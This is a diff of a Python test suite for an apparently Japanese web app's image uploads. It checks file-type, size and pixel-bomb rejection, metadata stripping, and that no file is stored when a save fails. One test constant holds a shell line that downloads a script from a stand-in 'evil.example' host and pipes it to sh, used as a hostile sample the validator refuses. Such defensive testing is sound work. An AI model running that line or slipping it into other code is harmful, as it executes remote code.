@@ -13,21 +13,24 @@ from tests.editing.conftest import form_fields, jpeg_bytes, png_bytes, sheet24
 from tests.factories import login
 from tests.htmlpage import Page
 from webapp.extensions import db
-from webapp.uploads import MAX_BYTES, UploadError, check_and_encode
+from webapp.uploads import Limits, UploadError, check_and_encode
+
+LIMITS = Limits()  # the defaults: 5 MB and 40 megapixels a file
+MAX_BYTES = 5 * 1024 * 1024
 
 SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
 
 
 def test_a_script_renamed_png_is_refused():
     with pytest.raises(UploadError) as exc:
-        check_and_encode(SCRIPT, "photo.png")
+        check_and_encode(SCRIPT, LIMITS, "photo.png")
     assert str(exc.value) == ("「photo.png」は PNG または JPEG の画像として読み取れません。"
                               "PNG または JPEG の画像ファイルを選んでください。")
 
 
 def test_a_script_behind_png_magic_bytes_is_refused():
     with pytest.raises(UploadError) as exc:
-        check_and_encode(b"\x89PNG\r\n\x1a\n" + SCRIPT, "photo.png")
+        check_and_encode(b"\x89PNG\r\n\x1a\n" + SCRIPT, LIMITS, "photo.png")
     assert "画像として読み取れません（ファイルが壊れているか、画像ではありません）" in str(exc.value)
 
 
@@ -35,7 +38,7 @@ def test_other_image_formats_are_refused():
     out = io.BytesIO()
     Image.new("RGB", (10, 10)).save(out, "GIF")
     with pytest.raises(UploadError, match="PNG または JPEG の画像として読み取れません"):
-        check_and_encode(out.getvalue(), "anim.png")
+        check_and_encode(out.getvalue(), LIMITS, "anim.png")
 
 
 def test_a_file_over_5_mb_is_refused():
@@ -45,7 +48,7 @@ def test_a_file_over_5_mb_is_refused():
     data = out.getvalue()
     assert len(data) > MAX_BYTES
     with pytest.raises(UploadError) as exc:
-        check_and_encode(data, "big.png")
+        check_and_encode(data, LIMITS, "big.png")
     assert str(exc.value) == ("「big.png」は大きすぎます（最大 5 MB）。"
                               "画像を縮小するか、圧縮してからアップロードしてください。")
 
@@ -54,13 +57,13 @@ def test_too_many_pixels_are_refused_before_decoding():
     data = png_bytes(size=(8000, 6000))   # a small file that would decode to 144 MB
     assert len(data) < MAX_BYTES
     with pytest.raises(UploadError) as exc:
-        check_and_encode(data, "bomb.png")
+        check_and_encode(data, LIMITS, "bomb.png")
     assert str(exc.value) == "「bomb.png」は画素数が大きすぎます（8000×6000）。4,000万画素以下の画像にしてください。"
 
 
 def test_empty_file_is_refused():
     with pytest.raises(UploadError, match="空のファイルです"):
-        check_and_encode(b"", "empty.png")
+        check_and_encode(b"", LIMITS, "empty.png")
 
 
 def _exif() -> Image.Exif:
@@ -77,7 +80,7 @@ def test_exif_is_removed_and_the_photo_kept_upright():
     original = jpeg_bytes(size=(40, 30), exif=_exif().tobytes())
     with Image.open(io.BytesIO(original)) as img:
         assert img.getexif().get(0x010F) == "SecretCam"  # the test image does carry EXIF
-    data, ext, width, height = check_and_encode(original, "IMG_0001.JPG")
+    data, ext, width, height = check_and_encode(original, LIMITS, "IMG_0001.JPG")
     assert ext == ".jpg"
     assert (width, height) == (30, 40)                   # orientation applied before dropping it
     assert b"Exif" not in data and b"SecretCam" not in data
@@ -92,14 +95,14 @@ def test_png_text_chunks_are_removed_and_transparency_kept():
     info.add_text("Comment", "secret-location")
     out = io.BytesIO()
     Image.new("RGBA", (20, 20), (255, 0, 0, 0)).save(out, "PNG", pnginfo=info)
-    data, ext, _, _ = check_and_encode(out.getvalue(), "chart.png")
+    data, ext, _, _ = check_and_encode(out.getvalue(), LIMITS, "chart.png")
     assert ext == ".png" and b"secret-location" not in data and b"tEXt" not in data
     with Image.open(io.BytesIO(data)) as img:
         assert img.mode == "RGBA" and img.getpixel((0, 0))[3] == 0
 
 
 def test_huge_photos_are_scaled_down():
-    _, _, width, height = check_and_encode(jpeg_bytes(size=(4000, 3000)), "wide.jpg")
+    _, _, width, height = check_and_encode(jpeg_bytes(size=(4000, 3000)), LIMITS, "wide.jpg")
     assert (width, height) == (2400, 1800)
 
 
@@ -160,22 +163,49 @@ def test_a_renamed_script_is_refused_on_the_page_and_nothing_is_stored(app24, f,
     assert sheet.version == 1 and len(sheet.figures) == 1
 
 
-def test_an_accepted_upload_survives_an_error_elsewhere(app24, f, client24, oita):
+def test_a_save_refused_for_an_error_elsewhere_stores_no_file_and_says_so(app24, f, client24, oita):
     sheet = sheet24(f)
+    folder = app24.config["UPLOAD_FOLDER"]
     fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
     fields["kpis-0-series-7-actual"] = "たくさん"
     response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
     assert response.status_code == 422
     page = Page(response)
-    token = page.input_value("figures-1-image_token")
-    assert token
-    assert "画像を受け付けました" in page.text
-    # fix the number and save again, without choosing the file again
-    again = {k: v for k, v in fields.items() if k != "figures-1-image"}
-    again.update({"kpis-0-series-7-actual": "230", "figures-1-image_token": token})
-    assert client24.post(f"/sheets/{sheet.id}/edit", data=again).status_code == 303
+    assert "図表 2 の画像はまだ保存されていません。誤りを直したら、画像をもう一度選んでから保存してください。" in page.text
+    assert _files(folder) == set()
+    # fix the number, choose the file again and save
+    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
+    fields["kpis-0-series-7-actual"] = "230"
+    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
+    assert response.status_code == 303
     db.session.refresh(sheet)
     assert sheet.figures[1].image_file and sheet.kpis[0].values[-1].actual == 230
+    assert _files(folder) == {sheet.figures[1].image_file}
+
+
+def test_a_save_on_a_closed_year_stores_no_file(app24, f, client24, oita):
+    from webapp.cycles import close_cycle
+    sheet = sheet24(f)
+    folder = app24.config["UPLOAD_FOLDER"]
+    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
+    close_cycle(2024)
+    db.session.commit()
+    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
+    assert response.status_code == 409
+    assert _files(folder) == set()
+
+
+def test_a_save_that_loses_a_conflict_stores_no_file(app24, f, client24, oita):
+    sheet = sheet24(f)
+    folder = app24.config["UPLOAD_FOLDER"]
+    stale = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
+    newer = form_fields(client24, sheet.id)
+    newer["challenges"] = "・先に保存された課題"
+    assert client24.post(f"/sheets/{sheet.id}/edit", data=newer).status_code == 303
+    response = client24.post(f"/sheets/{sheet.id}/edit", data=stale, content_type="multipart/form-data")
+    assert response.status_code == 409
+    assert _files(folder) == set()
+    assert "図表 2" in Page(response).text
 
 
 def test_a_forged_image_token_is_ignored(app24, f, client24, oita):
